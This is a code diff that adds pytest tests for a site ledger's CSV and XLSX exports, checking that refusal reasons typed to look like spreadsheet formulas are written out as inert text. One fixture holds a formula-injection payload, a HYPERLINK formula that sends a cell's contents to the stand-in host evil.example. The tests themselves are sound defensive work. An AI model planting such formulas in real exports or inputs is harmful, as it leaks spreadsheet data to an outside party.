@@ -314,3 +314,38 @@ def test_the_ledger_runs_a_constant_number_of_queries(cast, loads):
     twenty_rows, twenty = count()
     assert (one_row, twenty_rows) == (1, 20)
     assert one == twenty == 2  # one SELECT for the rows, one for the workbook
+
+
+# --- typed text is never run as a formula -----------------------------------------------------
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A3,"click")'
+
+
+@pytest.fixture
+def formula_reason(cast, now, make_ready_load, arrived):
+    """A refusal reason a hostile user typed so that a spreadsheet would run it."""
+    return services.manifest_receive(actor=cast.actor("site_operator"), manifest=arrived(make_ready_load()),
+                                     outcome="refused", gross_t="40", tare_t="18", reason=FORMULA,
+                                     now=now + dt.timedelta(hours=1, minutes=5))
+
+
+def test_csv_cells_that_look_like_formulas_are_written_as_text(client, cast, formula_reason):
+    login(client, "site_operator")
+    response = client.get(reverse("ledger-site", args=[formula_reason.site_id]), {"format": "csv"})
+    header, *rows = read_csv(response)
+    reason = dict(zip(header, rows[0], strict=True))["Reason for refusal"]
+    assert reason == "'" + FORMULA
+
+
+def test_xlsx_cells_that_look_like_formulas_are_text_cells(client, cast, formula_reason):
+    login(client, "site_operator")
+    response = client.get(reverse("ledger-site", args=[formula_reason.site_id]), {"format": "xlsx"})
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    column = HEADERS_EN.index("Reason for refusal") + 1
+    cell = sheet.cell(row=3, column=column)
+    assert cell.value == FORMULA and cell.data_type == "s"
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
+def test_every_formula_trigger_is_defused(text):
+    assert ledgers.defused(text) == "'" + text
+    assert ledgers.defused("混有生活垃圾") == "混有生活垃圾" and ledgers.defused(Decimal("-1")) == Decimal("-1")
